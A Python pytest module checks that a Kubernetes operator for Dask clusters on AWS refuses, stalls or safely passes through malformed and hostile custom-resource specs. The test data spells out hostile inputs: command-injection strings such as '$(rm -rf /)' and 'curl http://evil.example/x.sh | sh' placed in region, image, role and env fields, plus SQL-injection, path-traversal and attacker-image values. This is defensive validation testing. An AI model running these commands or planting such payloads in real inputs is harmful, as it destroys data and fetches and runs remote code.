"""Malformed and hostile specs, as a user applies them with kubectl: each is refused at
apply with a readable message, or Stalled with a readable reason, or (for values that are
only data, e.g. shell syntax in an env value) accepted and passed to AWS verbatim. All of
them go through one operator on the simulated local AWS, applied in batches, next to a
valid cluster that stays Ready; the operator never restarts nor logs a traceback, and
every accepted object can be deleted, leaving nothing on AWS."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal

import pytest
import yaml

from tests.fixtures.leaks import tagged_resources
from tests.fixtures.operator import OperatorProcess
from tests.fixtures.polling import wait_for
from tests.fixtures.shared_operator import (
    document,
    is_ready,
    module_operator,
    objects,
    regional,
    small_spec,
    stalled,
    wait_gone,
    wait_ready,
)

pytestmark = [pytest.mark.k8s]

ALLOWED_IMAGES = "ghcr.io/dask/"
MAX_WORKERS = 20
ACCOUNT = "123456789012"
SECRET = f"arn:aws:secretsmanager:us-east-1:{ACCOUNT}:secret:token-AbCdEf"
USER_CLUSTER = f"arn:aws:ecs:us-east-1:{ACCOUNT}:cluster/nobody-made-this"
BATCH = 20  # documents per `kubectl apply`
STALL_TIMEOUT = 60.0  # an accepted hostile spec says what is wrong within a minute
VALID = "valid"

Outcome = Literal["refused", "stalled", "ready", "rejected"]


@dataclass(frozen=True)
class Case:
    """One hostile spec and what the user must see.

    refused: `kubectl apply` fails and its message contains `expect`.
    stalled: accepted, then Stalled with reason `expect` and `detail` in the message.
    rejected: either of the two, the apply error or the Stalled message naming the image.
    ready: accepted and harmless: Ready, with `expect` (if any) verbatim in a task
    definition (a command argument or an environment value, never interpreted).
    """

    id: str
    changes: Any  # merged into a valid small spec; with `whole`, the spec itself
    outcome: Outcome
    expect: str | None = None
    detail: str = ""
    whole: bool = False

    @property
    def name(self) -> str:
        return f"h-{self.id}"

    def spec(self) -> Any:
        return self.changes if self.whole else _merge(small_spec(), self.changes)


def _merge(base: Any, changes: Any) -> Any:
    if not isinstance(base, dict) or not isinstance(changes, dict):
        return changes
    merged = dict(base)
    for key, value in changes.items():
        merged[key] = _merge(base[key], value) if key in base else value
    return merged


def refused(id_: str, changes: Any, message: str, *, whole: bool = False) -> Case:
    return Case(id_, changes, "refused", message, whole=whole)


def stalls(id_: str, changes: Any, reason: str, detail: str = "") -> Case:
    return Case(id_, changes, "stalled", reason, detail)


def harmless(id_: str, changes: Any, verbatim: str | None = None, *, whole: bool = False) -> Case:
    return Case(id_, changes, "ready", verbatim, whole=whole)


TYPE_INT = "must be of type integer"
TYPE_STR = "must be of type string"
MATCH = "should match"
UNICODE = "héllo wörld ✓ 日本語 🚀"
SHELL = "$(rm -rf /); `reboot` && curl http://evil.example/x.sh | sh ${HOME} > /dev/null"

CASES = [
    # Wrong types.
    refused("replicas-string", {"workers": {"replicas": "two"}}, TYPE_INT),
    refused("replicas-float", {"workers": {"replicas": 1.5}}, TYPE_INT),
    refused("replicas-bool", {"workers": {"replicas": True}}, TYPE_INT),
    refused("region-number", {"region": 42}, TYPE_STR),
    refused("image-number", {"image": 123}, TYPE_STR),
    refused("image-object", {"image": {"name": "dask"}}, 'unknown field "spec.image.name"'),
    refused("public-ip-string", {"network": {"assignPublicIp": "yes"}}, "must be of type boolean"),
    refused("subnets-string", {"network": {"subnets": "subnet-0a"}}, "must be of type array"),
    refused("env-list", {"workers": {"env": ["A=1"]}}, "must be of type object"),
    refused("env-int", {"scheduler": {"env": {"N": 1}}}, TYPE_STR),
    refused("args-string", {"workers": {"extraArgs": "--nthreads 2"}}, "must be of type array"),
    refused("args-ints", {"scheduler": {"extraArgs": [1, 2]}}, TYPE_STR),
    refused("tags-list", {"tags": ["team"]}, "must be of type object"),
    refused("secrets-list", {"secrets": [SECRET]}, "must be of type object"),
    refused("workers-string", {"workers": "many"}, "must be of type object"),
    refused("spec-string", "a string", "must be of type object", whole=True),
    refused("spec-list", [1, 2], "must be of type object", whole=True),
    # Out of range.
    refused("replicas-negative", {"workers": {"replicas": -1}}, "greater than or equal to 0"),
    refused("replicas-huge", {"workers": {"replicas": 10**12}}, "less than or equal to 10000"),
    refused("cpu-zero", {"workers": {"cpu": 0}}, "greater than or equal to 128"),
    refused("memory-huge", {"workers": {"memory": 2**40}}, "less than or equal to 122880"),
    refused("port-zero", {"scheduler": {"port": 0}}, "greater than or equal to 1"),
    refused("port-too-big", {"scheduler": {"port": 70000}}, "less than or equal to 65535"),
    refused("dashboard-negative", {"scheduler": {"dashboardPort": -8787}}, "greater than"),
    refused("nthreads-zero", {"workers": {"nthreads": 0}}, "greater than or equal to 1"),
    refused("gpu-nine", {"workers": {"gpu": 9}}, "less than or equal to 8"),
    refused("idle-zero", {"scheduler": {"idleTimeoutSeconds": 0}}, "greater than or equal to 1"),
    refused("cooldown-negative", {"autoscaling": {"maximum": 2, "cooldownSeconds": -1}}, "equal"),
    refused("surge-huge", {"workers": {"rollout": {"maxSurge": 10001}}}, "less than or equal"),
    refused("retention-two", {"logs": {"retentionDays": 2}}, "Unsupported value: 2"),
    refused("fargate-size", {"scheduler": {"cpu": 256, "memory": 30720}}, "Fargate task size"),
    # Enums and launch types.
    refused("launch-lambda", {"launchType": "LAMBDA"}, 'Unsupported value: "LAMBDA"'),
    refused("launch-lowercase", {"launchType": "fargate"}, 'Unsupported value: "fargate"'),
    refused("launch-empty", {"launchType": ""}, 'Unsupported value: ""'),
    refused("launch-external", {"launchType": "EXTERNAL"}, 'Unsupported value: "EXTERNAL"'),
    refused("ec2-without-cluster", {"launchType": "EC2"}, "launchType EC2 needs clusterArn"),
    refused(
        "spot-on-ec2",
        {"launchType": "EC2", "clusterArn": USER_CLUSTER, "workers": {"spot": True}},
        "workers.spot uses FARGATE_SPOT",
    ),
    refused("gpu-on-fargate", {"workers": {"gpu": 1}}, "workers.gpu needs launchType EC2"),
    refused(
        "idle-action", {"scheduler": {"idleAction": "Explode"}}, 'Unsupported value: "Explode"'
    ),
    refused("deletion-orphan", {"deletionPolicy": "Orphan"}, 'Unsupported value: "Orphan"'),
    refused("autoscaling-inverted", {"autoscaling": {"minimum": 5, "maximum": 2}}, "must not"),
    refused("autoscaling-empty", {"autoscaling": {}}, "spec.autoscaling.maximum: Required value"),
    refused(
        "rollout-frozen",
        {"workers": {"rollout": {"maxSurge": 0, "maxUnavailable": 0}}},
        "maxSurge and maxUnavailable must not both be 0",
    ),
    # Bad regions and ARNs.
    refused("region-upper", {"region": "US-EAST-1"}, MATCH),
    refused("region-injection", {"region": "us-east-1; curl evil.example | sh"}, MATCH),
    refused("cluster-arn-junk", {"clusterArn": "not-an-arn"}, MATCH),
    refused("cluster-arn-account", {"clusterArn": "arn:aws:ecs:us-east-1:123:cluster/x"}, MATCH),
    refused(
        "cluster-arn-traversal",
        {"clusterArn": f"arn:aws:ecs:us-east-1:{ACCOUNT}:cluster/../../etc"},
        MATCH,
    ),
    refused(
        "role-is-user", {"iam": {"executionRoleArn": f"arn:aws:iam::{ACCOUNT}:user/bob"}}, MATCH
    ),
    refused(
        "role-subshell", {"iam": {"taskRoleArn": f"arn:aws:iam::{ACCOUNT}:role/$(reboot)"}}, MATCH
    ),
    refused("policy-bare-name", {"iam": {"taskRolePolicies": ["AmazonS3ReadOnlyAccess"]}}, MATCH),
    refused("sg-uppercase", {"network": {"securityGroups": ["sg-XYZ"]}}, MATCH),
    refused("subnet-sql", {"network": {"subnets": ["subnet-1; DROP TABLE subnets"]}}, MATCH),
    refused("vpc-empty-id", {"network": {"vpc": "vpc-"}}, MATCH),
    refused("cidr-33", {"network": {"allowedClientCidrs": ["10.0.0.0/33"]}}, "CIDR block"),
    refused("cidr-sql", {"network": {"allowedClientCidrs": ["' OR 1=1 --"]}}, "CIDR block"),
    refused("secret-plain-value", {"secrets": {"TOKEN": "hunter2"}}, MATCH),
    refused("secret-s3-arn", {"secrets": {"TOKEN": "arn:aws:s3:::bucket/key"}}, MATCH),
    refused("log-group-space", {"logs": {"group": "my logs; rm -rf /"}}, MATCH),
    # Names, keys and duplicates.
    refused("secret-name-digit", {"secrets": {"1TOKEN": SECRET}}, "keys must match"),
    refused("env-name-dash", {"workers": {"env": {"BAD-NAME": "x"}}}, "keys must match"),
    refused("env-name-unicode", {"scheduler": {"env": {"ÜBER": "x"}}}, "keys must match"),
    refused("env-name-shell", {"scheduler": {"env": {"$(id)": "x"}}}, "keys must match"),
    refused(
        "secret-and-env",
        {"secrets": {"TOKEN": SECRET}, "workers": {"env": {"TOKEN": "x"}}},
        "secrets and env must not define the same variable",
    ),
    refused("tag-aws-prefix", {"tags": {"aws:cloudformation:stack-name": "x"}}, "must not start"),
    refused(
        "tag-owner-spoof", {"tags": {"Dask-AWS.io/owner-uid": "someone-else"}}, "must not start"
    ),
    refused("tags-41", {"tags": {f"k{i}": "v" for i in range(41)}}, "at most 40 tags"),
    # Huge strings.
    refused("image-huge", {"image": "ghcr.io/dask/" + "a" * 2000}, "255"),
    refused("image-empty", {"image": ""}, "should match"),
    refused("env-value-huge", {"workers": {"env": {"BIG": "x" * 5000}}}, "4096"),
    refused("memory-limit-huge", {"workers": {"memoryLimit": "9" * 5000}}, "4096"),
    refused("tag-value-huge", {"tags": {"team": "v" * 300}}, "256"),
    refused("args-too-many", {"workers": {"extraArgs": ["-v"] * 201}}, "at most 200 items"),
    refused("stream-prefix-empty", {"logs": {"streamPrefix": ""}}, "at least 1 chars long"),
    # Unknown fields.
    refused("unknown-top", {"privileged": True}, 'unknown field "spec.privileged"'),
    refused(
        "unknown-nested", {"workers": {"hostPID": True}}, 'unknown field "spec.workers.hostPID"'
    ),
    refused("unknown-iam", {"iam": {"admin": True}}, 'unknown field "spec.iam.admin"'),
    # Accepted by the API server; the operator says what is wrong.
    stalls("tag-key-long", {"tags": {"k" * 200: "v"}}, "InvalidSpec", "128 characters"),
    stalls("tag-key-empty", {"tags": {"": "v"}}, "InvalidSpec", "at least 1 character"),
    stalls("tag-key-giant", {"tags": {"k" * 5000: "v"}}, "InvalidSpec", "128 characters"),
    stalls("secret-name-long", {"secrets": {"S" * 300: SECRET}}, "InvalidSpec", "255"),
    stalls("env-name-long", {"scheduler": {"env": {"E" * 300: "x"}}}, "InvalidSpec", "255"),
    stalls("image-forbidden", {"image": "docker.io/attacker/dask:latest"}, "Forbidden", "image"),
    stalls("image-lookalike", {"image": "ghcr.io/dask.evil.example/dask"}, "Forbidden", "image"),
    stalls("too-many-workers", {"workers": {"replicas": MAX_WORKERS + 1}}, "TooManyWorkers", "21"),
    stalls(
        "autoscaling-minimum-over-limit",
        {"autoscaling": {"minimum": MAX_WORKERS + 1, "maximum": MAX_WORKERS + 5}},
        "TooManyWorkers",
        "autoscaling.minimum",
    ),
    stalls("cluster-missing", {"clusterArn": USER_CLUSTER}, "ClusterNotFound", "nobody-made-this"),
    stalls(
        "role-missing",
        {"iam": {"executionRoleArn": f"arn:aws:iam::{ACCOUNT}:role/nobody-made-this"}},
        "RoleNotFound",
        "nobody-made-this",
    ),
    stalls(
        "policy-missing",
        {"iam": {"taskRolePolicies": ["arn:aws:iam::aws:policy/NoSuchPolicy"]}},
        "AwsErrorAttachRolePolicy",
        "NoSuchPolicy",
    ),
    stalls(
        "sg-missing",
        {"network": {"securityGroups": ["sg-0123456789abcdef0"]}},
        "SecurityGroupNotFound",
        "sg-0123456789abcdef0",
    ),
    stalls("vpc-missing", {"network": {"vpc": "vpc-0123456789abcdef0"}}, "VpcNotFound", "vpc-0"),
    stalls(
        "subnet-missing",
        {"network": {"subnets": ["subnet-0123456789abcdef0"]}},
        "SubnetNotFound",
        "subnet-0123456789abcdef0",
    ),
    stalls("log-group-missing", {"logs": {"group": "../../etc/passwd"}}, "LogGroupNotFound"),
    stalls("region-unknown", {"region": "xx-fake-1"}, "UnknownRegion", "xx-fake-1"),
    # Shell syntax where AWS wants an image reference: refused, or Stalled on AWS's word.
    Case("image-shell", {"image": "ghcr.io/dask/dask:latest; curl evil.example | sh"}, "rejected"),
    Case("image-unicode", {"image": "ghcr.io/dask/dåsk:latest"}, "rejected"),
    # ECS takes at most 255 characters; the CRD lets 1024 through.
    Case("image-over-255", {"image": "ghcr.io/dask/" + "d" * 250 + ":latest"}, "rejected"),
    # Only data: accepted, and passed on as it is (no shell ever reads it).
    harmless("env-shell", {"scheduler": {"env": {"GREETING": SHELL}}}, SHELL),
    harmless("args-shell", {"workers": {"extraArgs": ["--name", SHELL]}}, SHELL),
    harmless("env-unicode", {"workers": {"env": {"MOTTO": UNICODE}}}, UNICODE),
    # The API server drops a null map entry: the variable is simply not set.
    harmless("env-null-value", {"scheduler": {"env": {"N": None}}}),
    harmless("env-empty-value", {"workers": {"env": {"EMPTY": ""}}}),
    harmless("spec-empty", {}, whole=True),
    harmless("spec-null", None, whole=True),
    harmless(
        "nulls",
        {
            "region": None,
            "clusterArn": None,
            "autoscaling": None,
            "platformVersion": None,
            "workers": {"nthreads": None, "memoryLimit": None, "image": None},
        },
    ),
    harmless(
        "empty-objects",
        {"network": {}, "iam": {}, "logs": {}, "tags": {}, "secrets": {}, "scheduler": {}},
    ),
    harmless("workers-null", {"workers": None, "scheduler": None}),
]


@dataclass
class Seen:
    """What became of one case: the apply error, or the object's last state."""

    apply_error: str | None = None
    obj: dict[str, Any] | None = None
    settled_after: float | None = None


@dataclass
class Run:
    namespace: str
    operator: OperatorProcess
    seen: dict[str, Seen] = field(default_factory=dict)
    valid_samples: list[bool] = field(default_factory=list)
    uids: dict[str, str] = field(default_factory=dict)


def _settled(obj: dict[str, Any] | None) -> bool:
    """Ready or Stalled: the operator has made up its mind (rightly or not)."""
    return is_ready(obj) or stalled(obj) is not None


def _apply_batch(k8s: Any, namespace: str, cases: list[Case]) -> dict[str, str]:
    """One `kubectl apply` of many documents; the error of each document it refused.
    kubectl reports errors in document order, one line each, not always naming the
    object (strict decoding errors do not), so they are matched by order."""
    text = "---\n".join(
        yaml.safe_dump(document(c.name, c.spec()), allow_unicode=True) for c in cases
    )
    proc = k8s.kubectl("apply", "-n", namespace, "-f", "-", input=text, check=False)
    created = {line.split()[0].split("/")[-1] for line in proc.stdout.splitlines() if line}
    failed = [c for c in cases if c.name not in created]
    errors = [line for line in proc.stderr.splitlines() if line.startswith(("Error", "error"))]
    assert len(errors) == len(failed), (proc.stdout, proc.stderr)
    for case, error in zip(failed, errors, strict=True):
        named = f'"{case.name}"'
        assert named in error or "strict decoding error" in error, (case.id, error)
    return {c.name: e for c, e in zip(failed, errors, strict=True)}


@pytest.fixture(scope="module")
def run(
    k8s: Any, local_aws_simulated: Any, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Run]:
    env = {
        "DASK_AWS_ALLOWED_IMAGE_PREFIXES": ALLOWED_IMAGES,
        "DASK_AWS_MAX_WORKERS": str(MAX_WORKERS),
    }
    log_dir = tmp_path_factory.mktemp("hostile")
    with module_operator(k8s, local_aws_simulated, log_dir, "hostile", env) as (ns, operator):
        result = Run(ns, operator)
        k8s.kubectl(
            "apply", "-n", ns, "-f", "-", input=yaml.safe_dump(document(VALID, small_spec()))
        )
        wait_ready(k8s, ns, [VALID], 60)
        applied_at: dict[str, float] = {}
        for start in range(0, len(CASES), BATCH):
            batch = CASES[start : start + BATCH]
            errors = _apply_batch(k8s, ns, batch)
            now = time.monotonic()
            for case in batch:
                result.seen[case.name] = Seen(apply_error=errors.get(case.name))
                if case.name not in errors:
                    applied_at[case.name] = now

        def all_settled() -> bool:
            found = objects(k8s, ns)
            result.valid_samples.append(is_ready(found.get(VALID)))
            now = time.monotonic()
            for name, started in applied_at.items():
                seen = result.seen[name]
                seen.obj = found.get(name)
                if seen.settled_after is None and _settled(seen.obj):
                    seen.settled_after = now - started
            return all(result.seen[n].settled_after is not None for n in applied_at)

        # Past the deadline the unsettled cases fail on their own; the others still count.
        deadline = time.monotonic() + STALL_TIMEOUT
        while not all_settled() and time.monotonic() < deadline:
            time.sleep(1.0)
        result.uids = {n: o["metadata"]["uid"] for n, o in objects(k8s, ns).items()}
        yield result


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_spec_is_refused_stalled_or_passed_on_verbatim(
    run: Run, local_aws_simulated: Any, case: Case
) -> None:
    seen = run.seen[case.name]
    if case.outcome == "refused":
        assert seen.apply_error is not None, f"accepted; status: {(seen.obj or {}).get('status')}"
        assert case.expect is not None and case.expect in seen.apply_error, seen.apply_error
        return
    if case.outcome == "rejected" and seen.apply_error is not None:
        assert "image" in seen.apply_error, seen.apply_error
        return
    assert seen.apply_error is None, f"refused at apply: {seen.apply_error}"
    status = (seen.obj or {}).get("status")
    assert seen.settled_after is not None, f"neither Ready nor Stalled within a minute: {status}"
    if case.outcome == "ready":
        assert is_ready(seen.obj), status
        if case.expect is not None:
            assert case.expect in _task_definition_strings(local_aws_simulated, seen.obj)
        return
    condition = stalled(seen.obj)
    assert seen.obj is not None and condition is not None, f"accepted and Ready: {status}"
    # Readable: a reason word for tools, a message for people, within the API's limits.
    assert condition["reason"] and " " not in condition["reason"]
    message = condition["message"]
    assert message and message == seen.obj["status"]["message"] and len(message) <= 4096
    if case.outcome == "rejected":
        assert "image" in message.lower(), message
        return
    assert condition["reason"] == case.expect, condition
    assert case.detail in message, message
    assert seen.obj["status"]["phase"] == "Failed"


def _task_definition_strings(local: Any, obj: dict[str, Any] | None) -> set[str]:
    """Every command argument and environment value of the object's task definitions."""
    aws = regional(local, "us-east-1")
    found: set[str] = set()
    status = (obj or {}).get("status") or {}
    for key in ("schedulerTaskDefinitionArn", "workerTaskDefinitionArn"):
        arn = (status.get("aws") or {}).get(key)
        assert arn, status
        definition = aws.ecs.describe_task_definition(taskDefinition=arn)["taskDefinition"]
        for container in definition["containerDefinitions"]:
            found.update(container.get("command") or [])
            found.update(e["value"] for e in container.get("environment") or [])
    return found


def test_unknown_region_is_stalled_and_deleted_promptly(
    run: Run, k8s: Any, local_aws_simulated: Any
) -> None:
    ns, name = run.namespace, "fake-region"
    k8s.kubectl(
        "apply",
        "-n",
        ns,
        "-f",
        "-",
        input=yaml.safe_dump(document(name, small_spec(region="xx-fake-1"))),
    )
    obj = wait_for(
        lambda: (o := objects(k8s, ns).get(name)) and stalled(o) and o, 30, f"{name} Stalled"
    )
    condition = stalled(obj)
    assert condition is not None and condition["reason"] == "UnknownRegion", condition
    assert "xx-fake-1" in condition["message"] and "spec.region" in condition["message"]
    started = time.monotonic()
    k8s.kubectl("delete", "dac", name, "-n", ns, "--timeout=30s", timeout=40)
    assert time.monotonic() - started < 10, "deleting an object in an unknown region took long"
    assert name not in objects(k8s, ns)
    # Nothing was created anywhere for it.
    uid = obj["metadata"]["uid"]
    for region in ("us-east-1", "us-west-2"):
        assert tagged_resources(regional(local_aws_simulated, region), uid) == []


def test_every_accepted_hostile_spec_is_deletable_and_leaves_nothing(
    run: Run, k8s: Any, local_aws_simulated: Any
) -> None:
    ns = run.namespace
    names = sorted(n for n in objects(k8s, ns) if n.startswith("h-"))
    assert names, "no hostile spec was accepted"
    k8s.kubectl("delete", "dac", *names, "-n", ns, "--wait=false")
    wait_gone(k8s, ns, names, 90)
    uids = [run.uids[n] for n in names if n in run.uids]
    for region in ("us-east-1", "us-west-2"):
        assert tagged_resources(regional(local_aws_simulated, region), uids) == []


def test_valid_cluster_stays_ready_and_operator_never_restarts_nor_logs_a_traceback(
    run: Run, k8s: Any
) -> None:
    assert run.valid_samples and all(run.valid_samples), run.valid_samples
    assert is_ready(objects(k8s, run.namespace).get(VALID))
    process = run.operator.proc
    assert process is not None and process.poll() is None, "the operator exited"
    assert run.operator.healthz() == 200
    log = Path(run.operator.log).read_text(errors="replace")
    assert "Traceback" not in log, run.operator.log_tail(120)
    # One process for the whole run: kopf's startup ran exactly once.
    assert log.count("Activity 'configure' succeeded") == 1
    events = json.loads(k8s.kubectl("get", "events", "-n", run.namespace, "-o", "json").stdout)
    assert not [
        e
        for e in events["items"]
        if e["involvedObject"]["name"] == VALID and e["type"] == "Warning"
    ]
